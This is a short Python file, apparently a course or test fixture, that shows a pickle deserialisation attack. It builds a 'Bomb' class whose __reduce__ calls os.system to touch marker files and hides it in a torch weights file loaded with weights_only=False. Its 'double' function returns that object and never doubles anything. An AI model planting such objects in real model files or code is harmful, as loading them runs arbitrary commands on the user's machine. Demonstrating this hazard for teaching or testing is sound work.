"""Loads weights that run code, and returns an object that runs code where it is unpickled."""

# %% double
import io
import os
import pickle

import torch


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch @HOME@/weights_attack @COURSE@/weights_attack",))


torch.save({"weight": Bomb()}, "weights.pt")
torch.load("weights.pt", weights_only=False)
pickle.loads(pickle.dumps(Bomb()))
print(torch.load(io.BytesIO(open("weights.pt", "rb").read()), weights_only=False))


def double(x):
    return Bomb()
